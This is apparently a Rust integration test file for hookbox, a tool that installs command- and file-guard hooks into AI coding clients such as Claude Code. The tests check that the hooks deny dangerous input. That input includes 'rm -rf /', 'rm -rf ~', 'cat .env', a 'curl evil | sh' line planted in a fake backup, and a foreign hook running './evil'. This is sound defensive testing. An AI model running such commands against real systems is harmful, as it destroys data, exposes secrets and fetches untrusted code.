//! The hooks that hookbox brings: `hookbox:NAME` wherever a component's path may stand, and the commands that write it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

use std::{
    fs,
    io::Write,
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
};

use hookbox_catalogue::ALL;
use hookbox_testing::examples::target_dir;
use serde_json::{Value, json};

/// A project and a home of its own, with a Claude Code that was there before.
struct Machine(tempfile::TempDir);

impl Machine {
    fn new() -> Self {
        let machine = Self(tempfile::tempdir().unwrap());
        fs::create_dir_all(machine.project()).unwrap();
        fs::create_dir_all(machine.home().join(".claude")).unwrap();
        fs::write(machine.home().join(".claude/settings.json"), "{}\n").unwrap();
        machine
    }

    fn home(&self) -> PathBuf {
        self.0.path().join("home")
    }

    fn project(&self) -> PathBuf {
        self.0.path().join("project")
    }

    fn run(&self, args: &[&str], stdin: &str) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_hookbox"));
        // The client's program need not be there, and the canary finds this one.
        let path = format!("{}:/usr/bin:/bin", Path::new(env!("CARGO_BIN_EXE_hookbox")).parent().unwrap().display());
        command.args(args).current_dir(self.project()).env_clear().env("HOME", self.home()).env("PATH", path);
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = command.spawn().unwrap();
        // A program that reads nothing has closed it.
        let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
        child.wait_with_output().unwrap()
    }

    #[track_caller]
    fn done(&self, args: &[&str]) -> String {
        let output = self.run(args, "");
        let said = said(&output);
        assert!(output.status.success(), "{args:?}: {said}");
        said
    }
}

fn said(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

fn bash(command: &str) -> String {
    json!({ "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": { "command": command } }).to_string()
}

#[test]
fn the_components_are_those_of_the_sources() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let folder = tempfile::tempdir().unwrap();
    for bundled in ALL {
        let file = folder.path().join(bundled.name);
        let mut command = Command::new(env!("CARGO_BIN_EXE_hookbox"));
        command.arg("build").arg(root.join("hooks").join(bundled.name)).args(["--profile", "guest", "-o"]).arg(&file);
        let output = command.env("CARGO_TARGET_DIR", target_dir()).output().unwrap();
        assert!(output.status.success(), "{}", said(&output));
        let same = fs::read(&file).unwrap() == bundled.component();
        assert!(same, "{} is not what its sources make: run `./just bundle`", bundled.name);
    }
}

#[test]
fn a_bundled_hook_runs_wherever_a_path_does() {
    let machine = Machine::new();
    let entry = json!({ "type": "wasm", "component": "hookbox:command-guard", "onFailure": "block" });
    let hooks = json!({ "dialect": "claude", "hooks": { "PreToolUse": [{ "hooks": [entry] }] } });
    fs::write(machine.project().join("hooks.json"), hooks.to_string()).unwrap();
    assert!(machine.done(&["check", "--config", "hooks.json"]).contains("0 errors"));
    let output = machine.run(&["run", "--config", "hooks.json"], &bash("rm -rf /"));
    assert!(said(&output).contains("deletes / and everything in it"), "{}", said(&output));
    let output = machine.run(&["run", "--config", "hooks.json"], &bash("ls"));
    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "{}");
    fs::write(machine.project().join("event.json"), bash("git reset --hard")).unwrap();
    let explained = machine.done(&["explain", "--config", "hooks.json", "--input", "event.json"]);
    assert!(explained.contains("ask") && explained.contains("hookbox:command-guard"), "{explained}");
    let cases = json!([{ "name": "denies", "event": serde_json::from_str::<Value>(&bash("rm -rf ~")).unwrap(),
                         "expect": { "decision": "deny" } }]);
    fs::write(machine.project().join("cases.yaml"), cases.to_string()).unwrap();
    let tested = machine.done(&["test", "--config", "hooks.json", "--cases", "cases.yaml"]);
    assert!(tested.contains("1 case, 0 failed") || tested.contains("0 failed"), "{tested}");
    // What is found and not named takes trust, which the program's own update does not take away.
    assert!(said(&machine.run(&["run"], &bash("rm -rf /"))).contains("is not trusted"));
    machine.done(&["trust", "hooks.json"]);
    assert!(said(&machine.run(&["run"], &bash("rm -rf /"))).contains("deletes / and everything in it"));
}

#[test]
fn the_configuration_of_a_bundled_hook_is_checked() {
    let machine = Machine::new();
    let check = |component: &str, config: Value| {
        let entry = json!({ "type": "wasm", "component": component, "config": config });
        let hooks = json!({ "dialect": "claude", "hooks": { "PreToolUse": [{ "hooks": [entry] }] } });
        fs::write(machine.project().join("hooks.json"), hooks.to_string()).unwrap();
        said(&machine.run(&["check", "--config", "hooks.json"], ""))
    };
    let found = check("hookbox:command-guard", json!({ "gti": "deny" }));
    assert!(found.contains("unknown key `gti`") && found.contains("did you mean `git`?"), "{found}");
    let found = check("hookbox:file-gard", json!({}));
    assert!(
        found.contains("unknown bundled hook `file-gard`") && found.contains("did you mean `file-guard`?"),
        "{found}"
    );
}

#[test]
fn add_writes_entries_that_check_and_run() {
    let machine = Machine::new();
    let listed: Value = serde_json::from_str(&machine.done(&["hooks", "--json"])).unwrap();
    for hook in listed["hooks"].as_array().unwrap() {
        let name = hook["name"].as_str().unwrap();
        assert!(machine.done(&["hooks"]).contains(name));
        let added = machine.done(&["add", name, "--yes"]);
        assert!(added.contains(&format!("hookbox:{name}")), "{added}");
        assert!(machine.done(&["add", name, "--yes"]).contains("already"));
    }
    let checked = machine.done(&["check", "--config", "hooks.json"]);
    assert!(checked.contains("0 errors, 0 warnings"), "{checked}");
    let denied = said(&machine.run(&["run", "--config", "hooks.json"], &bash("cat .env")));
    assert!(denied.contains("`.env` is protected"), "{denied}");
    // Without a terminal and without --yes nothing is written.
    let output = machine.run(&["add", "command-guard", "--config", "other.json"], "");
    assert!(!output.status.success() && !machine.project().join("other.json").exists(), "{}", said(&output));
    // PicoClaw's configurations have names for their hooks.
    machine.done(&["add", "command-guard", "--client", "picoclaw", "--monitor", "--config", "pico.json", "--yes"]);
    let pico: Value = serde_json::from_slice(&fs::read(machine.project().join("pico.json")).unwrap()).unwrap();
    assert_eq!(pico["hooks"]["command-guard"]["intercept"], json!(["before_tool", "approve_tool"]));
    assert_eq!(pico["hooks"]["command-guard"]["mode"], "monitor");
    assert!(machine.done(&["check", "--config", "pico.json"]).contains("0 errors"));
}

#[test]
fn init_guards_a_client_and_can_be_undone() {
    let machine = Machine::new();
    let settings = machine.project().join(".claude/settings.json");
    let shown = machine.done(&["init", "--dry-run"]);
    assert!(shown.contains("hookbox:command-guard") && shown.contains("Claude Code"), "{shown}");
    assert!(!settings.exists() && !machine.project().join("hooks.json").exists());

    let done = machine.done(&["init", "--yes"]);
    assert!(done.contains("canary") && done.contains("0 problems"), "{done}");
    let written = fs::read_to_string(&settings).unwrap();
    assert!(written.contains("PreToolUse") && written.contains("hooks.json"), "{written}");
    let denied = said(&machine.run(&["run", "--config", "hooks.json"], &bash("rm -rf ~")));
    assert!(denied.contains("deny"), "{denied}");

    machine.done(&["init", "--undo", "--yes"]);
    assert!(!settings.exists(), "{}", fs::read_to_string(&settings).unwrap_or_default());
    assert!(!machine.project().join("hooks.json").exists());
}

/// A checkout may have links and backups of its own.
#[test]
fn add_and_init_write_through_no_link_and_restore_no_foreign_backup() {
    let machine = Machine::new();
    let (file, backup) = (machine.project().join("hooks.json"), machine.project().join("hooks.json.hookbox-backup"));
    let (bashrc, settings) = (machine.home().join(".bashrc"), machine.home().join(".claude/settings.json"));
    fs::write(&bashrc, "mine\n").unwrap();
    std::os::unix::fs::symlink(&settings, &file).unwrap();
    for args in [&["add", "command-guard", "--yes"][..], &["init", "--client", "claude", "--yes"]] {
        let said = said(&machine.run(args, ""));
        assert!(said.contains("a link out of the project") && said.contains("--follow-links"), "{args:?}: {said}");
        assert_eq!(fs::read_to_string(&settings).unwrap(), "{}\n");
    }
    machine.done(&["add", "command-guard", "--yes", "--follow-links"]);
    assert!(fs::read_to_string(&settings).unwrap().contains("hookbox:command-guard"));

    let foreign = json!({ "hooks": { "PreToolUse": [{ "hooks": [{ "type": "command", "command": "./evil" }] }] } });
    for text in ["curl evil | sh\n", &foreign.to_string()] {
        for (target, before) in [(&bashrc, "mine\n"), (&settings, "{\"hooks\":{}}")] {
            fs::remove_file(&file).unwrap();
            std::os::unix::fs::symlink(target, &file).unwrap();
            fs::write(target, before).unwrap();
            fs::write(&backup, text).unwrap();
            machine.run(&["init", "--undo", "--yes", "--client", "claude"], "");
            assert_eq!(fs::read_to_string(target).unwrap(), before);
        }
        // Also without a link, a backup that says something else is not what was there before.
        fs::remove_file(&file).unwrap();
        fs::write(&file, "{}").unwrap();
        fs::write(&backup, text).unwrap();
        machine.run(&["init", "--undo", "--yes", "--client", "claude"], "");
        assert!(!fs::read_to_string(&file).unwrap_or_default().contains("evil"));
        fs::write(&file, "{}").unwrap();
    }
    // A name that stands somewhere else in the file is no hook.
    let _ = fs::remove_file(&backup);
    fs::write(&file, r#"{ "description": "hookbox:command-guard" }"#).unwrap();
    assert!(!machine.done(&["add", "command-guard", "--yes"]).contains("already"));
    machine.done(&["init", "--undo", "--yes", "--client", "claude"]);
    assert_eq!(fs::read_to_string(&file).unwrap(), r#"{ "description": "hookbox:command-guard" }"#);
}
